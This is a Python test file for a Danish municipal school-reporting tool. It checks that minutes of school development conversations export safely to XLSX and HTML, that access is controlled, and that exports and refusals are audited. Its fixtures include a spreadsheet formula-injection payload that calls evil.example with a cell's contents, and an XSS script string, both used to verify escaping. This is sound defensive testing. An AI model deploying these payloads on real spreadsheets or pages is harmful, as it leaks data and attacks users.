"""The samtale's referat as XLSX and HTML, and ``python -m reports samtale``."""

from __future__ import annotations

import io

import pytest
from markupsafe import escape
from openpyxl import load_workbook

import reports
from core import audit, database
from core.errors import KvalitetsdialogError
from core.viewer import Viewer
from dialogue import samtale as s
from reports.__main__ import main
from tests.test_samtale import sdb  # noqa: F401  (the fixture: two schools and a daycare with test results)

ADMIN = Viewer.parse("administration")
MARK = "Fortroligt - folkeskolelovens § 55 b"
# Hostile text in every field a person writes: formulas for the spreadsheet, markup for the page.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
SCRIPT = "<script>alert('x')</script> & <b>fed</b>"


@pytest.fixture
def referat_db(sdb):
    """Nordskolen's samtale 2021/22, held, with hostile text everywhere; one agreement from 2020/21 to follow up."""
    last = s.create_samtale(sdb, ADMIN, institution_id="999001", school_year=2020, held_on="2020-11-10")
    old = s.add_agreement(sdb, ADMIN, last, text="+Læsebånd", owner="@Skolelederen", due="2021-06-30")
    s.edit_agreement(sdb, ADMIN, old, status="gennemført", followup="-kører stadig")
    samtale_id = s.create_samtale(
        sdb,
        ADMIN,
        institution_id="999001",
        school_year=2021,
        held_on="2021-11-09",
        held=True,
        leader_names=SCRIPT,
        summary=FORMULA,
        development_areas=f"Læsning\n{SCRIPT}",
        school_assessment=FORMULA,
    )
    s.add_agreement(sdb, ADMIN, samtale_id, text=SCRIPT, owner=FORMULA, due="2022-06-30")
    s.save_strategic_frame(sdb, ADMIN, kommune=999, school_year=2021, topics=[FORMULA, "Trivsel"])
    return sdb


def referat(db, viewer, fmt, year=2021, institution_id="999001"):
    with database.read(db) as con:
        return reports.samtale(con, viewer, institution_id, year=year, fmt=fmt)


def test_referat_xlsx_is_marked_and_keeps_every_text_as_text(referat_db):
    wb = load_workbook(io.BytesIO(referat(referat_db, Viewer.parse("leader:999001"), "xlsx")))
    ws = wb["Samtale"]
    assert ws["A1"].value == "Skoleudviklingssamtale 2021/22 – Nordskolen"
    assert ws["A2"].value == MARK and ws.oddHeader.center.text == MARK
    assert ws.page_setup.paperSize == 9 and ws.page_setup.orientation == "portrait"  # 9: A4
    cells = {c.coordinate: c for row in ws.iter_rows() for c in row if c.value is not None}
    # Every written text arrives as text: formula-like ones stored as strings, never as formulas.
    hostile = [c for c in cells.values() if c.value in (FORMULA, "+Læsebånd", "@Skolelederen", "-kører stadig")]
    # the frame topic, the assessment, the referat, the new owner; the old agreement, its owner, its follow-up
    assert len(hostile) == 7
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert SCRIPT in [c.value for c in cells.values()]

    # The test results: Nordskolen reading, share good 70 % (2020/21); 2021/22 and the municipality's are withheld
    # as complementary ("x": they would give the three maths pupils back, tests/test_samtale.py works it out).
    rows = {r[0].value: r for r in ws.iter_rows() if r[1].value == "Dansk, læsning"}
    good = rows["Andel gode (nationale test)"]
    assert [good[2].value, good[3].value, good[4].value] == [pytest.approx(0.7), "x", "x"]
    assert good[2].number_format == "0.0 %"
    maths = next(r for r in ws.iter_rows() if r[0].value == "Andel gode (nationale test)" and r[1].value == "Matematik")
    assert [maths[2].value, maths[3].value, maths[4].value] == ["–", "<5", "<5"]  # no 2020 maths; 3 pupils withheld


def test_referat_without_test_results_carries_no_mark(referat_db):
    s.create_samtale(referat_db, ADMIN, institution_id="999002", school_year=2022, held_on="2022-11-01")
    wb = load_workbook(io.BytesIO(referat(referat_db, ADMIN, "xlsx", year=2022, institution_id="999002")))
    ws = wb["Samtale"]
    assert ws["A2"].value is None and not ws.oddHeader.center.text
    assert all(MARK not in str(c.value) for row in ws.iter_rows() for c in row)
    page = referat(referat_db, ADMIN, "html", year=2022, institution_id="999002").decode()
    assert MARK not in page and "Der er ingen testresultater for skolen i 2022/23." in page
    assert "Forberedelse (samtalen er ikke afholdt endnu)" in page


def test_referat_html_escapes_every_text_and_is_self_contained(referat_db):
    page = referat(referat_db, ADMIN, "html").decode()
    assert "<script>" not in page and "<b>fed</b>" not in page
    assert page.count(str(escape(SCRIPT))) == 3  # a participant, a development area, an agreement
    assert str(escape(FORMULA)) in page
    assert "@page { size: A4" in page and MARK in page
    assert "<p>Referat · Eksempelby Kommune · udskrevet" in page
    assert "Opfølgning på aftalerne fra samtalen i 2020/21" in page and "-kører stadig" in page
    assert "70,0 %" in page and "&lt;5" in page and '"num">x<' in page and "x: skjult" in page
    assert "http" not in page.replace("http://evil.example", "")  # nothing fetched when it is opened


def test_referat_is_the_viewers(referat_db):
    with pytest.raises(KvalitetsdialogError, match="ingen skoleudviklingssamtale delt med kommunalbestyrelsen"):
        referat(referat_db, Viewer.parse("council"), "html")
    with pytest.raises(KvalitetsdialogError, match="ikke adgang"):
        referat(referat_db, Viewer.parse("leader:999002"), "xlsx")
    with pytest.raises(KvalitetsdialogError, match="ikke offentlige"):
        referat(referat_db, Viewer.parse("public"), "html")


def test_command_writes_the_referat_and_audits_a_refusal(referat_db, tmp_path, capsys):
    out = tmp_path / "referat.html"
    args = ["samtale", "--db", str(referat_db), "--institution", "999001", "--year", "2021/22", "--out"]
    assert main([*args, str(out), "--as", "leader:999001"]) == 0
    assert capsys.readouterr().out.startswith(f"Referat skrevet til {out} (")
    assert "Skoleudviklingssamtale 2021/22 – Nordskolen" in out.read_text(encoding="utf-8")
    assert main([*args, str(tmp_path / "x.xlsx"), "--as", "leader:999002"]) == 1
    assert "Ingen adgang" in capsys.readouterr().err and not (tmp_path / "x.xlsx").exists()
    with database.read(referat_db) as con:
        rows = con.execute(
            "SELECT who, action, object, origin FROM audit_log WHERE action IN ('export', 'denied') ORDER BY audit_id"
        ).fetchall()
    assert rows == [
        ("leader:999001", "export", "report:samtale", audit.command_line()),
        ("leader:999002", "denied", "samtale:999001:2021", audit.command_line()),
    ]


def test_command_honours_kommune_as_the_own_municipality(referat_db, tmp_path, monkeypatch, capsys):
    """``--kommune`` names the own municipality (docs/formats.md), as for ``reports dialogue``: a school of
    another municipality is refused by the dialogue rule and audited once; the own one is written."""
    monkeypatch.setenv("KVALITETSDIALOG_KOMMUNE", "751")  # the deployment is configured as Aarhus ...
    args = ["samtale", "--db", str(referat_db), "--institution", "999001", "--year", "2021/22", "--out"]
    out = tmp_path / "referat.xlsx"
    assert main([*args, str(out), "--kommune", "999"]) == 0  # ... but this run is for Eksempelby
    assert out.exists()
    assert main([*args, str(tmp_path / "x.html"), "--kommune", "101"]) == 1
    err = capsys.readouterr().err
    assert "Institution 999001 hører ikke til kommunen (101)" in err and not (tmp_path / "x.html").exists()
    with database.read(referat_db) as con:
        rows = con.execute(
            "SELECT action, object FROM audit_log WHERE action IN ('export', 'denied') ORDER BY audit_id"
        ).fetchall()
    assert rows == [("export", "report:samtale"), ("denied", "samtale:999001:2021")]
